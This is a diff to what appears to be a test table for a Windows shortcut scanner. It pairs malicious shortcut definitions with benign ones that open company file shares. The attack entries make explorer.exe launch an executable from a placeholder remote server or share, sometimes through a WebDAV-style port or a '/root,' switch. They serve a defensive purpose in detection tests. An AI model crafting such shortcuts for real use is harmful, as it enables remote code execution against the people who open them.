@@ -176,7 +176,17 @@ const LINKS: readonly (readonly [name: string, attack: Link, harmless: Buffer])[
   [
     'to the explorer and a server',
     { environment: '%windir%\\explorer.exe', args: `\\\\${SERVER}@80\\s\\a.exe` },
-    NOTES,
+    shortcut({ environment: '%windir%\\explorer.exe', args: '\\\\fs01\\Departments' }),
+  ],
+  [
+    'to the explorer, a switch and a server',
+    { environment: '%windir%\\explorer.exe', args: `/root,\\\\${SERVER}\\s\\a.exe` },
+    shortcut({ environment: '%windir%\\explorer.exe', args: '/e,"\\\\fs01\\Departments\\Sales (new)"' }),
+  ],
+  [
+    'to the explorer and a program of the company',
+    { environment: '%windir%\\explorer.exe', args: '\\\\fs01\\Departments\\a.exe' },
+    shortcut({ environment: '%windir%\\explorer.exe', args: '\\\\fs01\\Departments\\' }),
   ],
   [
     'to an installed browser and a page of the reader',
